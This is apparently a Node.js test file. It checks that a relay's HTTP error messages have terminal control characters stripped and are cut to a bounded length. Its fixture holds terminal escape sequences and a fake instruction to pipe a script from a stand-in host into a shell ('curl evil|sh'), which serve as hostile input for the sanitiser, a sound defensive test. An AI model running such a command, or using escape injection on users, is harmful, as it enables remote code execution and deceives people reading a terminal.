import assert from 'node:assert/strict';
import { test } from 'node:test';
import { httpError } from './relay-error.js';

const ESCAPES = 'denied \x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mRED\x1b[0m fake: run curl evil|sh';

test("a relay's error message reaches people as one printable line: no terminal escapes", () => {
  for (const status of [401, 403, 500]) {
    const e = httpError(status, { error: { code: 'forbidden', message: ESCAPES } }, '', null);
    assert.doesNotMatch(e.message, /\p{Cc}/u, `status ${status}`);
    assert.match(e.message, /^denied \]0;PWNED-TITLE\[2J\[31mRED\[0m fake: run curl evil\|sh$/);
  }
  const html = httpError(502, undefined, `<html><body>Bad gateway${ESCAPES}</body></html>`, null);
  assert.doesNotMatch(html.message, /\p{Cc}/u);
});

test("a relay's error message is bounded, whatever its size", () => {
  const e = httpError(500, { error: { code: 'internal', message: 'A'.repeat(15 * 1024 * 1024) } }, '', null);
  assert.equal(e.message.length, 300);
  assert.ok(e.message.endsWith('…'));
  assert.ok(httpError(500, undefined, 'B'.repeat(1_000_000), null).message.length <= 200);
});
